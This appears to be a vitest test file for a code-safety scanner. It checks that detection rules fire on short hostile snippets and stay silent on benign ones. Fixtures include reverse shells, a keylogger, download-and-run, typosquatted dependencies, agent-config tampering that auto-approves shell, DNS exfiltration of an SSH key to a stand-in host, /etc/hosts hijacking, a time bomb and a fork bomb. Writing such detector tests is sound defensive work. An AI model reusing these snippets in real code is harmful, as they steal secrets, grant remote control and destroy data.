import { describe, expect, it } from "vitest";
import { scanText } from "../../src/safety/index.js";

const rulesIn = (file: string, text: string) => scanText(text, { file }).map(({ rule }) => rule);

describe("who gives the orders", () => {
  it.each([
    [
      "reverse-shell",
      "a.pl",
      "socket(my $c, PF_INET, SOCK_STREAM, 6);\nconnect($c, $there);\nopen STDIN, '<&', $c;\nexec '/bin/sh';\n",
    ],
    ["reverse-shell", "a.rb", 'c = TCPSocket.new(ARGV[0], 99)\n$stdin.reopen(c)\nexec "/bin/bash"\n'],
    [
      "reverse-shell",
      "a.go",
      'conn, _ := net.Dial("tcp", where)\ncmd := exec.Command("/bin/sh")\ncmd.Stdin = conn\n',
    ],
    [
      "reverse-shell",
      "a.py",
      "class Box(socketserver.StreamRequestHandler):\n  def handle(self):\n    subprocess.run(self.data.decode(), shell=True)\n",
    ],
    [
      "reverse-shell",
      "a.js",
      "net.createServer((c) => c.on('data', (data) => {\n  exec(data.toString(), (e, out) => c.write(out));\n}));\n",
    ],
    [
      "surveillance",
      "a.py",
      "from pynput import keyboard\nwith open('notes.log', 'a') as f:\n  keyboard.Listener(on_press=lambda k: f.write(str(k))).start()\n",
    ],
    [
      "traffic-diversion",
      "a.py",
      "import requests\nreal = requests.Session.send\nrequests.Session.send = both\nrequests.post(OTHER, data=x)\n",
    ],
  ])("%s in %s: %j", (rule, file, text) => {
    expect(rulesIn(file, text)).toContain(rule);
  });

  it.each([
    [
      "a.py",
      "class Box(socketserver.StreamRequestHandler):\n  def handle(self):\n    self.wfile.write(b'ok')\n",
    ],
    ["a.py", "out = subprocess.run(command, shell=True, capture_output=True)\n"],
    ["a.js", "globalThis.fetch = vi.fn();\n"],
    ["a.py", "os.dup2(log.fileno(), 1)\n"],
  ])("silent in %s: %j", (file, text) => {
    expect(rulesIn(file, text)).toEqual([]);
  });
});

describe("where it comes from", () => {
  it.each([
    [
      "download-then-execute",
      "a.go",
      'r, _ := http.Get("https://rel.toolbelt.example/x")\nf, _ := os.OpenFile(p, os.O_CREATE, 0o755)\nio.Copy(f, r.Body)\nexec.Command(p).Run()\n',
    ],
    [
      "download-then-execute",
      "a.vbs",
      'Set o = CreateObject("WinHttp.WinHttpRequest.5.1")\no.Open "GET", "https://rel.toolbelt.example/x"\ns.SaveToFile p\nCreateObject("WScript.Shell").Run p\n',
    ],
    [
      "dynamic-code-execution",
      "a.rb",
      'instance_eval(URI.open("https://rules.toolbelt.example/a.rb").read)\n',
    ],
    ["dependency-confusion", ".npmrc", "@team:registry=https://npm.toolbelt.example/\n"],
    ["dependency-confusion", "pip.conf", "[global]\nindex-url = https://py.toolbelt.example/simple\n"],
    ["dependency-confusion", "Gemfile", 'source "https://gems.toolbelt.example"\n'],
    ["dependency-confusion", "requirements.txt", "requets==2.1\n"],
    ["dependency-confusion", "pyproject.toml", 'dependencies = ["pandsa>=2"]\n'],
    ["dependency-confusion", "package.json", '{\n"dependencies": {\n"expresss": "^4.0.0"\n}}\n'],
    [
      "agent-config-tampering",
      "a.js",
      "const p = join(home, '.cursor/mcp.json');\ncfg.servers.help = { url: 'https://mcp.toolbelt.example' };\nfs.writeFileSync(p, JSON.stringify(cfg));\n",
    ],
    [
      "agent-config-tampering",
      "a.py",
      "p = home / '.claude/settings.json'\nd['autoApprove'] = ['shell']\np.write_text(json.dumps(d))\n",
    ],
    [
      "persistence",
      "tasks.json",
      '{"label": "warm", "command": "curl https://a.toolbelt.example/w", "runOptions": {"runOn": "folderOpen"}}\n',
    ],
    [
      "security-weakening",
      "a.sh",
      "wget https://ca.toolbelt.example/root.crt\nsudo cp root.crt /usr/local/share/ca-certificates\nupdate-ca-certificates\n",
    ],
  ])("%s in %s: %j", (rule, file, text) => {
    expect(rulesIn(file, text)).toContain(rule);
  });

  it.each([
    [".npmrc", "registry=https://registry.npmjs.org/\n"],
    ["requirements.txt", "requests==2.31.0\npandas\n# reqests is no package\n"],
    ["package.json", '{ "dependencies": { "express": "^4.0.0" } }\n'],
    ["a.py", "cfg = json.loads((home / '.cursor/mcp.json').read_text())\nprint(cfg)\n"],
    ["Gemfile", 'source "https://rubygems.org"\ngem "rake"\n'],
  ])("silent in %s: %j", (file, text) => {
    expect(rulesIn(file, text)).toEqual([]);
  });
});

describe("where it goes", () => {
  it.each([
    [
      "secret-exfiltration",
      "a.sh",
      'q() { dig +short "$1"; }\nxxd -p ~/.ssh/id_rsa | while read p; do q "$p.n.toolbelt.example"; done\n',
    ],
    [
      "data-exfiltration",
      "a.js",
      "const two = new Client('postgres://w:w@copy.toolbelt.example/w');\nawait two.query('insert into t values ($1)', [rows]);\n",
    ],
    [
      "data-exfiltration",
      "a.py",
      'run(["git", "push", "-q", "https://git.toolbelt.example/a.git", "HEAD"])\n',
    ],
    [
      "traffic-diversion",
      "a.py",
      'os.environ["HTTPS_PROXY"] = "http://out.toolbelt.example:8080"\nx = "https://out.toolbelt.example"\n',
    ],
    [
      "traffic-diversion",
      "a.py",
      'LINES = """\n198.51.100.9 login.bank.example\n"""\nopen("/etc/hosts", "a").write(LINES)\n',
    ],
    [
      "data-exfiltration",
      "a.rb",
      "Net::HTTP.post(URI('https://in.toolbelt.example/a'), File.read('notes.txt'))\n",
    ],
    ["data-exfiltration", "a.go", 'http.Post("https://in.toolbelt.example/a", "text/plain", body)\n'],
  ])("%s in %s: %j", (rule, file, text) => {
    expect(rulesIn(file, text)).toContain(rule);
  });

  it.each([
    ["a.py", 'DSN = "postgres://user:secret@localhost/app"\ncur.execute("insert into t values (1)")\n'],
    ["a.sh", "git remote add origin https://github.com/me/a.git\ngit push -u origin main\n"],
    ["a.py", 'LINES = "0.0.0.0 ads.toolbelt.example"\nopen("/etc/hosts", "a").write(LINES)\n'],
    ["a.sh", 'dig +short "$1" MX\n'],
  ])("silent in %s: %j", (file, text) => {
    expect(rulesIn(file, text)).toEqual([]);
  });
});

describe("what is lost", () => {
  it.each([
    [
      "data-destruction",
      "a.py",
      "for d, _, names in os.walk(top):\n  for n in names:\n    open(os.path.join(d, n), 'wb').write(os.urandom(512))\n",
    ],
    ["data-destruction", "a.py", "shutil.rmtree(CONFIG.parent)\n"],
    ["data-destruction", "a.py", "if date.today() > date(2027, 1, 1):\n  shutil.rmtree(work)\n"],
    ["data-destruction", "a.sh", '[ "$(date +%Y%m%d)" -gt 20270101 ] && rm -rf "$WORK"\n'],
    ["resource-exhaustion", "a.sh", "pump() { pump | pump & }\npump\n"],
    [
      "privilege-escalation",
      "compose.yml",
      "services:\n  probe:\n    image: probe\n    privileged: true\n    volumes:\n      - /:/rootfs\n",
    ],
  ])("%s in %s: %j", (rule, file, text) => {
    expect(rulesIn(file, text)).toContain(rule);
  });

  it.each([
    ["a.py", "for d, _, names in os.walk(top):\n  print(d, len(names))\n"],
    ["a.py", "shutil.rmtree(build)\n"],
    ["a.py", "if date.today() > due:\n  shutil.rmtree(cache)\n"],
    ["compose.yml", "services:\n  web:\n    image: web\n    volumes:\n      - ./data:/data\n"],
  ])("silent in %s: %j", (file, text) => {
    expect(rulesIn(file, text)).toEqual([]);
  });
});

describe("a download that is verified before it is started is for a person to decide", () => {
  const fetched = "curl -fsSLo tool.sh https://get.toolbelt.example/tool.sh\n";
  const severities = (text: string) => scanText(text, { file: "a.sh" }).map(({ severity }) => severity);

  it("verified", () => {
    const text = `${fetched}echo "$SUM  tool.sh" | sha256sum -c -\nbash tool.sh\n`;
    expect(severities(text)).toContain("warn");
    expect(severities(text)).not.toContain("critical");
  });

  it("not verified, or from a drop", () => {
    expect(severities(`${fetched}bash tool.sh\n`)).toContain("critical");
    expect(severities("curl -o t.sh https://transfer.sh/a/t.sh\nsha256sum -c sums\nbash t.sh\n")).toContain(
      "critical",
    );
  });
});
